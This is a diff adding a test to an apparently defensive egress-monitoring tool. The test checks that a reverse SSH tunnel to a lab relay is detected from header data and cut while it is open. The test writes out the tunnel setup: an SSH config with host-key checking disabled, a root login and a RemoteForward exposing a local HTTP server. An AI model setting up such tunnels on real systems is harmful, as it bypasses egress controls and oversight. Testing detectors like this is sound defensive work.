@@ -150,3 +150,49 @@ def test_a_reverse_tunnel_found_while_open_is_cut(lab):
     ssh = [r for r in stored(lab) if r.get("kind") == "flow" and r["dport"] == 22]
     assert ssh and "reverse-ssh-tunnel" in {f["id"] for f in ssh[0]["findings"]}
     assert ssh[0]["verdict"] == "block"
+
+
+def test_a_tunnel_used_only_after_the_first_packets_is_found_from_the_headers_feed(lab):
+    """Only the first 16 packets of each flow and direction are logged whole (a config
+    key): key exchange and authentication use them up, so the forwarded requests are seen
+    only through the headers-only feed that follows watched (SSH) flows."""
+    lab.start_dns({"relay.lab": "198.51.100.7"})
+    key = lab.start_sshd("198.51.100.7", 22)
+    shared = Path(tempfile.mkdtemp(prefix="egress-lab-ssh-"))
+    for name in ("config", "key", "egress.toml"):
+        lab.cleanup_later(shared / name)
+    (shared / "key").write_bytes(key.read_bytes())
+    (shared / "config").write_text(
+        "Host relay.lab\n  User root\n  StrictHostKeyChecking no\n"
+        "  UserKnownHostsFile /dev/null\n  BatchMode yes\n"
+        "  RemoteForward 9000 127.0.0.1:8080\n")
+    (shared / "egress.toml").write_text("[netfilter]\nfirst_packets = 16\n")
+    for path, mode in ((shared, 0o755), (shared / "config", 0o644), (shared / "key", 0o644)):
+        os.chmod(path, mode)
+    purpose = lab.dir / "ssh.toml"
+    purpose.write_text('version = 1\npurpose = "Deploy to the relay"\ntask = "lab-gate"\n'
+                       '[[allow]]\nhost = "relay.lab"\nports = [22]\nprotocol = "ssh"\n')
+    script = ("python3 -m http.server 8080 --bind 127.0.0.1 >/dev/null 2>&1 & "
+              f"cp {shared}/key /tmp/k.$$; chmod 600 /tmp/k.$$; "
+              f"ssh -F {shared}/config -i /tmp/k.$$ -N relay.lab; echo ssh ended $?; "
+              "rm -f /tmp/k.$$")
+    run = lab.spawn("host", EGRESS, "--config", shared / "egress.toml", "run", "--task",
+                    "lab-gate", "--purpose", purpose, "--mode", "enforce", "--db",
+                    lab.dir / "egress.db", "--", "sh", "-c", script, log="watch.log")
+    lab.wait_port("127.0.0.1", 9000, timeout=20)
+    served = 0
+    for _ in range(12):
+        got = lab.net("curl", "-s", "-m", "2", "-o", "/dev/null", "-w", "%{http_code}",
+                      "http://127.0.0.1:9000/", check=False)
+        if got.stdout != "200":
+            break
+        served += 1
+        time.sleep(0.4)
+    assert run.wait(timeout=30) == 0
+    log = (lab.dir / "watch.log").read_text()
+    assert 3 <= served < 12 and "cut 198.51.100.7:22 while open" in log, log
+    (ssh,) = [r for r in stored(lab) if r.get("kind") == "flow" and r["dport"] == 22]
+    assert ssh["observed"] == "first-packets+watch"
+    assert ssh["packets_out"] > 16 and ssh["packets_in"] > 16
+    (found,) = [f for f in ssh["findings"] if f["id"] == "reverse-ssh-tunnel"]
+    assert found["evidence"]["source"] == "traffic"
